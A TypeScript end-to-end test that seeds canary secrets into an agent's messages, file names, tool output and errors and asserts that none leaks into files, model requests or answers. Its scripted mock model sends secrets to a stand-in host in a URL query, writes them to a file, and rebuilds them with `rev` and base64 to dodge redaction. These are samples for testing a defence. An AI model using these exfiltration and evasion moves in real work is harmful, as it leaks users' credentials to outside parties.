/**
 * S9: secrets are strewn over every way into an agent, and afterwards everything it wrote, sent and answered is
 * searched for them.
 *
 * Three are known (two of the settings, one of the vault), the others are known by their format. They come in as
 * messages, captions, names of files, reasons, in what tools print, in errors of the model's provider, in addresses and
 * in replies of the model.
 */
import assert from 'node:assert/strict';
import { appendFileSync, mkdirSync, readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { formsOf } from '../../../src/domain/secrets/forms.ts';
import { randomFrom, written } from '../../corpora/fake-text.ts';
import { anthropicPeer } from '../../peers/anthropic.ts';
import type { AnswerTurn } from '../../peers/script.ts';
import { test } from '../../slow.ts';
import { owner, polls, sees, withTelegram } from '../rig/telegram-agent.ts';
import { clientId } from '../rig/wire.ts';

const random = randomFrom(9);
const fake = (notation: string) => written(notation, random);
const key = fake('sk-·ant-api03-{w93}AA');
/** Known to Straylight by value. */
const configured = 'canary/Wert "7" & ümläut+Z9x';
const vaulted = 'canary_Vault-55+q/Tz';
/** Known by their looks alone. */
const token = fake('gh·p_{an36}');
const stripe = fake('sk·_live_{an24}');
const spoken = 'Korn7blumen';

const reversed = (text: string) => [...text].reverse().join('');

/** Repeats what it is told, calls what the words ask for, and says secrets of its own accord. */
const mind: AnswerTurn = ({ said, results }) => {
  const [result] = results;
  if (result) return { text: `It gave ${result.text} and I know ${configured} and ${token}.`, deltas: 40 };
  const [, command] = /run: (.+)$/s.exec(said) ?? [];
  if (command) return { toolCalls: [{ name: 'execute_command', arguments: { command } }] };
  const [, url] = /^fetch (\S+)$/.exec(said) ?? [];
  if (url)
    return {
      toolCalls: [
        { name: 'web_fetch', arguments: { url: `${url}?token=${encodeURIComponent(configured)}&k=${stripe}` } },
      ],
    };
  if (said === 'write it down')
    return {
      toolCalls: [
        { name: 'write_file', arguments: { path: `note-${token}.txt`, content: `${configured}\n${vaulted}\n` } },
      ],
    };
  if (said === 'break') return { fault: { status: 400, message: `bad key ${configured} and ${key} and ${token}` } };
  return { text: `I heard: ${said}. ${JSON.stringify({ configured, stripe })} ${btoa(`u:${vaulted}`)}`, deltas: 30 };
};

test('given secrets on every way in, when Straylight has stopped, then none stands in files, requests, messages or answers', async t => {
  const model = await anthropicPeer({ script: mind, key });
  const seen: string[] = [];
  const config =
    '[models]\ndefault = "anthropic/claude-sonnet-5"\n[sandbox]\nexecutor = "bubblewrap"\n[keys]\nstore = "file"\n';
  const env = { ANTHROPIC_API_KEY: key, ANTHROPIC_BASE_URL: model.url };
  const canaries = [key, configured, vaulted, token, stripe];
  const forms = [...new Set(canaries.flatMap(formsOf))].filter(form => form.length >= 10);
  let home: Readonly<Record<string, Buffer>> = {};
  try {
    await withTelegram(
      async (agent, telegram) => {
        mkdirSync(agent.path, { recursive: true });
        appendFileSync(join(agent.path, '.env'), `DOOR_CODE='${configured}'\n`, { mode: 0o600 });
        const set = await agent.straylightWith(vaulted, 'secret', 'set', 'ci/vaulted', '--host', 'api.example.org');
        assert.equal(set.code, 0, set.err);
        const running = await agent.start();

        // blocked: nothing of it is kept, and it goes from the chat
        const pasted = telegram.say(owner, token);
        await sees(
          telegram,
          /Not accepted: this looks like a credential \(github-token\)[\s\S]*straylight secret set NAME[\s\S]*deleted/,
        );
        assert.ok(
          telegram.calls.all.some(
            ({ method, params }) => method === 'deleteMessage' && Number(params['message_id']) === pasted.message_id,
          ),
        );
        // taken out: the rest is answered
        telegram.say(
          owner,
          `please remember this for the shop: the key of the test shop is ${stripe}, and my password is ${spoken}, thank you very much`,
        );
        await sees(telegram, /removed a credential from your message/);
        await sees(
          telegram,
          /I heard: please remember this for the shop: the key of the test shop is \[secret:stripe-key\], and my password is \[secret:password\]/,
        );
        const edited = telegram.say(owner, 'a harmless message that will be edited');
        await sees(telegram, /I heard: a harmless message/);
        telegram.edit(
          edited,
          `a message with a known thing in it, ${configured}, and a good deal of text around it so that it is kept`,
        );
        await sees(telegram, /with a known thing in it, \[secret:DOOR_CODE\]/);
        telegram.upload(owner, {
          kind: 'document',
          bytes: Buffer.from('nothing'),
          name: `key ${token}.txt`,
          caption: `use ${stripe} for the upload of this file, it is the one of the test account of the shop`,
        });
        await sees(telegram, /for the upload of this file/);
        await polls(telegram);

        // what tools print, what they are given, what fails
        for (const said of [
          `run: echo '${reversed(configured)}' | rev; echo '${reversed(token)}' | rev; echo '${reversed(vaulted)}' | rev | base64`,
          `I want to see what the machine says when it is asked for a file that is not there, so run: cat '/nonexistent/${token}'`,
          'fetch https://canary.invalid/x',
          'write it down',
          'break',
          `say ${vaulted} in other words, please, and tell me what you think about the weather of the week`,
        ]) {
          const session = 'session:web:main';
          const stream = await running.stream();
          const answer = await running.http(`/api/sessions/${encodeURIComponent(session)}/messages`, {
            clientId: clientId(),
            text: said,
          });
          assert.equal(answer.status, 202, JSON.stringify(answer.json));
          seen.push(JSON.stringify(answer.json));
          await stream.until('turn', data => {
            seen.push(JSON.stringify(data));
            return data.report.turn === answer.json.turn;
          });
          stream.close();
        }
        const refused = await running.http('/api/sessions/session%3Aweb%3Amain/messages', {
          clientId: clientId(),
          text: stripe,
        });
        assert.equal(refused.status, 403);
        seen.push(JSON.stringify(refused.json));

        // everything the page can be asked for
        const state = await running.http('/api/state');
        for (const { id } of state.json.actors) {
          const actor = encodeURIComponent(id);
          for (const path of ['journal', 'snapshot', 'export'])
            seen.push(JSON.stringify((await running.http(`/api/actors/${actor}/${path}`)).json));
          if (id.startsWith('session:'))
            seen.push(JSON.stringify((await running.http(`/api/sessions/${actor}/messages`)).json));
        }
        for (const path of ['/api/state', '/api/approvals', '/api/audit', '/api/budget', '/health'])
          seen.push(JSON.stringify((await running.http(path).catch(() => ({ json: null }))).json));
        for (const command of [['status'], ['approvals'], ['audit', 'list'], ['secret', 'list'], ['ask', stripe]]) {
          const { out, err } = await agent.straylight(...command);
          seen.push(out, err);
        }
        // as the files stand beneath a running agent, and after it
        home = filesOf(agent.path);
        const ended = await running.stop();
        seen.push(ended.out, ended.err);
        home = { ...home, ...filesOf(agent.path, 'after ') };
        assert.ok((agent.tables.value("SELECT count(*) FROM audit WHERE kind = 'message.blocked'") as number) >= 3);
        seen.push(
          ...telegram.sent.all.map(sent => JSON.stringify(sent)),
          ...telegram.drafts.all.map(draft => draft.raw + draft.text),
        );
      },
      { config, env },
    );
    const requests = model.requests.map(({ body }) => JSON.stringify(body ?? null));
    const places = { files: Object.keys(home).length, requests: requests.length, answers: seen.length };
    let found = 0;
    const look = (what: string, holds: (form: string) => boolean) => {
      for (const form of [...forms, spoken])
        if (holds(form)) {
          found += 1;
          t.diagnostic(`found in ${what}: ${form.slice(0, 12)}…`);
        }
    };
    for (const [file, bytes] of Object.entries(home)) look(file, form => bytes.includes(form) || file.includes(form));
    for (const request of requests) look('a request to the model', form => request.includes(form));
    for (const text of seen) look(`an answer (${text.slice(0, 80)})`, form => text.includes(form));
    t.diagnostic(
      `S9: ${forms.length} forms of ${canaries.length + 1} secrets in ${JSON.stringify(places)}: found ${found}`,
    );
    assert.equal(found, 0);
    assert.ok(requests.length >= 8 && Object.keys(home).length >= 10);
  } finally {
    await model.close();
  }
});

/** All files of a home but those made to hold secrets: `.env` and the vault, which is encrypted anyway. */
function filesOf(home: string, prefix = ''): Readonly<Record<string, Buffer>> {
  return Object.fromEntries(
    readdirSync(home, { recursive: true, withFileTypes: true })
      .filter(entry => entry.isFile() && entry.name !== '.env')
      .map(entry => join(entry.parentPath, entry.name))
      .map(file => [prefix + file.slice(home.length), readFileSync(file)] as const),
  );
}
